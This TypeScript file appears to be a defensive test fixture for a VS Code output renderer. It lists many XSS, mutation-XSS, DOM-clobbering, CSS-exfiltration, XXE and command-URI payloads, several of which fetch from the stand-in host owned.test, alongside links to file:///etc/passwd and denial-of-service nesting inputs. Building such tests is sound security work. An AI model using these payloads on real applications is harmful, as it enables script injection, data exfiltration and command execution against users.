import type { MimeBundle } from '../../../src/protocol/output.js';
import { mutatingMarkup } from './mutatingMarkup.js';

/*
 * Output of somebody who means harm. Whatever gets to run sets `owned`, whatever gets out asks owned.test for
 * something, and whatever gets clicked names a command of VS Code's.
 */

const RUN = 'globalThis.owned=1,fetch(`//owned.test/`)';
const URL = 'http://owned.test/x';
const command = 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22owned%22%7D';

export const hostileMarkup: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${URL}.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img/src=\`x\`/onerror=${RUN}>`,
  `<img src="${URL}.png">`,
  `<img srcset="${URL}.png 1x, ${URL}2.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  `<img src="data:text/html,<script>${RUN}</script>">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${URL}'/></svg>">`,
  `<picture><source srcset="${URL}"><img src=x></picture>`,
  `<body onload="${RUN}" background="${URL}">`,
  `<table background="${URL}"><tr><td background="${URL}">x</table>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>click</text></a></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  `<svg><use href="${URL}.svg#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><image href="${URL}.png"/><feImage href="${URL}.png"/></svg>`,
  `<svg><rect width=9 height=9 fill="url(${URL}#a)" filter="url('${URL}#b')" mask="url( ${URL}#c)"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${URL}.css"; * { background: url(${URL}) }</style></svg>`,
  `<svg></p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math><maction actiontype="statusline#${URL}" xlink:href="javascript:${RUN}">click</maction></math>`,
  `<math href="javascript:${RUN}"><mi>click</mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]><?xml <img src=x onerror=${RUN}>?>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java&#x09;script:${RUN}">click</a>`,
  `<a href=" &#14; javascript:${RUN}">click</a>`,
  `<a href="JaVaScRiPt:${RUN}">click</a>`,
  `<a href="vbscript:x">click</a><a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<a href="${command}">click</a>`,
  `<a href="COMMAND:${command.slice(8)}">click</a>`,
  `<a href="vscode://ms.python/x">click</a><a href="file:///etc/passwd">click</a>`,
  `<a href="vscode-file://x/y">click</a><a href="//owned.test/z">click</a><a href="/main.js">click</a>`,
  `<a href="http://owned.test/link" ping="${URL}" target="_top" title="https://bank.test">click</a>`,
  `<map name=m><area shape=default href="javascript:${RUN}"></map><img usemap=#m src=x>`,
  `<iframe src="javascript:${RUN}"></iframe><iframe src="${URL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="${URL}">`,
  `<object><param name="src" value="${URL}"></object><applet code="${URL}"></applet>`,
  `<frameset onload="${RUN}"><frame src="${URL}"></frameset>`,
  `<link rel=stylesheet href="${URL}.css"><link rel=prefetch href="${URL}"><link rel=dns-prefetch href="//owned.test">`,
  `<base href="http://owned.test/"><a href="relative">click</a><img src="relative.png">`,
  `<meta http-equiv=refresh content="0;url=${URL}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *">`,
  `<style>@import url(${URL}.css);</style><style>* { background: url(${URL}) } body { display: none }</style><p>x`,
  `<style>@font-face { font-family: x; src: url(${URL}) } p { font-family: x }</style><p>x`,
  `<style>:host { position: fixed; inset: 0 } ::slotted(*) { color: red }</style><p>x`,
  `<style nonce="guessed">p { background-image: image-set(url(${URL}) 1x) }</style><p>x`,
  `<style>p::after { content: url(${URL}) } p { cursor: url(${URL}), auto; list-style: url(${URL}) }</style><p>x`,
  `<style></style/><img src=x onerror=${RUN}></style>`,
  `<style>/*</style><img src=x onerror=${RUN}>*/</style>`,
  `<div style="background: url(${URL})">x</div><div style=background:url(${URL})>x</div>`,
  `<div/style="background:url('${URL}')"/x>x</div>`,
  `<div style="width: expression(${RUN}); behavior: url(${URL}); -moz-binding: url(${URL})">x</div>`,
  `<div style="position: fixed; inset: 0; z-index: 99999; background: white">Your session has expired</div>`,
  `<div style="background-image: linear-gradient(red, url(${URL}))">x</div>`,
  `<div style="color: red; --fg: url(${URL}); background: var(--fg)">x</div>`,
  `<form action="${URL}"><input name=q autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">click</button></form>`,
  `<input type=image src="${URL}" onerror="${RUN}"><button popovertarget=p onclick="${RUN}">click</button><div popover id=p>x</div>`,
  `<select autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}"></textarea><keygen autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>click</summary>x</details>`,
  `<video><source onerror="${RUN}"></video><audio src="${URL}" onerror="${RUN}"></audio><video poster="${URL}" src="${URL}">`,
  `<marquee onstart="${RUN}">x</marquee><p onpointerenter="${RUN}" onclick="${RUN}" tabindex=1>click</p>`,
  `<p contenteditable onfocus="${RUN}" autofocus>click</p><p accesskey=c onclick="${RUN}">click</p>`,
  `<dialog open>x<form method=dialog><button>click</button></form></dialog>`,
  `<x-y onclick="${RUN}" is="vscode-button">click</x-y><vscode-button onclick="${RUN}">click</vscode-button>`,
  `<div class="cmd pill tb" role="alert" aria-live="assertive" id="open">Session died</div>`,
  `<form id=body name=body><input name=attributes><input name=childNodes></form><a id=document name=cookie>x</a>`,
  `<img name=getElementById><img name=body><form name=acquireVsCodeApi><input name=postMessage></form>`,
  `<div data-held-style="background: url(${URL}); position: fixed">x</div>`,
  `<div title='style="x' style='background:url("${URL}")' title2=">">x</div>`,
  '<b>'.repeat(20_000),
  `${'<div style="color:red">'.repeat(5000)}x`,
  '<table>'.repeat(2000),
];

const hostileSvg: readonly string[] = [
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${URL}.png" width="9" height="9"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><style>@import "${URL}.css"; rect { fill: url(${URL}#a) }</style><rect width="9" height="9"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${URL}"/></foreignObject></svg>`,
  `<?xml-stylesheet href="${URL}.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${URL}">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>`,
  `"><img src=x onerror=${RUN}>`,
];

const hostileMarkdown: readonly string[] = [
  `[click](javascript:${RUN})`,
  `[click](${command})`,
  `![x](${URL}.png) ![x](javascript:${RUN})`,
  `<img src=x onerror="${RUN}">\n\n<script>${RUN}</script>`,
  `[click]: javascript:${RUN}\n\n[click]`,
  `<javascript:${RUN}> <${command}>`,
  `\`\`\`<img src=x onerror=${RUN}>\nx\n\`\`\``,
  `<details ontoggle="${RUN}" open>\n\n**x**`,
  '>'.repeat(5000) + ' x',
  '[a]('.repeat(3000),
  '- '.repeat(2000) + 'x',
];

const hostileLatex: readonly string[] = [
  `$\\href{javascript:${RUN}}{click}$`,
  `$\\href{${command}}{click}$`,
  `$\\includegraphics{${URL}.png}$`,
  `$\\class{cmd" onclick="${RUN}}{x}\\id{x}{y}\\style{background:url(${URL})}{z}\\data{a=b}{c}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$\\rule{9999999em}{9999999em}$`,
  `${'{'.repeat(5000)}x${'}'.repeat(5000)}`,
];

/** Where a link in terminal text must not lead. */
export const hostileLinks: readonly string[] = [
  command,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'vscode://file/etc/passwd',
  'vscode-insiders:extension/owned.owned',
  'file:///etc/passwd',
  'blob:http://panel.test/owned',
  '//owned.test/relative',
  '#fragment',
  ` https://owned.test/space`,
  'https://owned.test/\u202eright-to-left',
  'https:',
  `https://owned.test/${'long'.repeat(1000)}`,
];

/** Text that is shown as text wherever it turns up. */
export const hostileText = `"><img src=x onerror="${RUN}"><script>${RUN}</script><a href="${command}">click</a>\x1b]8;;${command}\x07click\x1b]8;;\x07`;

/** Each payload as the value of a command. */
export const hostileBundles: readonly MimeBundle[] = [
  ...hostileMarkup.map((html) => ({ 'text/html': html })),
  ...mutatingMarkup.map((html) => ({ 'text/html': html })),
  ...hostileSvg.map((svg) => ({ 'image/svg+xml': svg })),
  ...hostileMarkdown.map((markdown) => ({ 'text/markdown': markdown })),
  ...hostileLatex.map((latex) => ({ 'text/latex': latex })),
  { 'application/json': { [hostileText]: [hostileText, { __proto__: 1, constructor: { prototype: {} } }] } },
  { 'application/json': JSON.parse('['.repeat(3000) + ']'.repeat(3000)) as unknown },
  ...['image/png', 'image/jpeg', 'image/gif', 'image/webp'].map((mime) => ({ [mime]: `,${hostileText}` })),
  { 'application/javascript': RUN },
  { [hostileText]: hostileText },
  { 'text/html': '<script>1</script>', 'application/javascript': RUN, 'text/plain': hostileText },
];
